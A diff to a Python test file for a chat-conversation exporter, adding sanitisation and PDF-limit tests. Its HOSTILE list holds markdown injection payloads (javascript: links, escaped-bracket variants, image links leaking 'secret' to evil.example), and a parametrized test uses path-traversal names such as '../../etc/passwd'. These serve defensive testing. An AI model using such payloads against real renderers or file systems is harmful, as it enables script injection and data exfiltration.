@@ -12,8 +12,9 @@ from ventoux.conversations.entries import MessageInput, MessageOutput, TextChunk
 from ventoux.conversations.exporting.markdown import as_markdown
 from ventoux.conversations.exporting.names import file_name
 from ventoux.conversations.exporting.parts import Code, Prose, parts_of
-from ventoux.conversations.exporting.pdf import as_pdf
+from ventoux.conversations.exporting.pdf import Stopped, as_pdf
 from ventoux.conversations.schemas import Conversation
+from ventoux.errors import InvalidRequest
 
 AT = "2026-01-01T00:00:00Z"
 
@@ -34,6 +35,9 @@ HOSTILE = [
     "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z](data:text/html,x)",
     "[a]: javascript:alert(1)\n\n[a]",
     "![pixel](https://evil.example/p?d=secret)",
+    "!![pixel](https://evil.example/p) !\\![pixel](https://evil.example/p) \\![pixel](https://evil.example/p)",
+    "[x\\](javascript:alert(1)) [y\\\\](javascript:alert(1))",
+    "[b\\]: javascript:alert(1)\n\n[b\\]",
     "<https://ok.example> <javascript:alert(1)>",
     "&lt;script&gt; &#60;script&#62;",
     "    <script>indented</script>",
@@ -97,6 +101,25 @@ def test_a_long_conversation_goes_over_pages_and_loses_no_word() -> None:
 
     assert len(pages) > 2
     assert [word for word in words if not any(word in page for page in pages)] == []
+
+
+def test_a_word_without_an_end_is_broken_in_one_go_and_a_pdf_has_its_bounds(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    word = "W" * 60_000
+
+    written = "".join(_text(as_pdf(talk(), [MessageInput(content=word, created_at=AT)])))
+
+    assert written.count("W") == len(word)
+    monkeypatch.setattr("ventoux.conversations.exporting.pages._MOST_PAGES", 20)
+    for much in ("x y " * 1_000_000, "a\n" * 2_000):
+        with pytest.raises(InvalidRequest, match="too long for a PDF"):
+            as_pdf(talk(), [MessageInput(content=much, created_at=AT)])
+
+
+def test_a_pdf_that_nobody_waits_for_is_not_written_on() -> None:
+    with pytest.raises(Stopped):
+        as_pdf(talk(), [MessageInput(content="x", created_at=AT)], lambda: True)
 
 
 @pytest.mark.parametrize("name", ["../../etc/passwd", "a/b\\c:d*?", "CON", "\x00\n", "", None, "é" * 500, ".."])
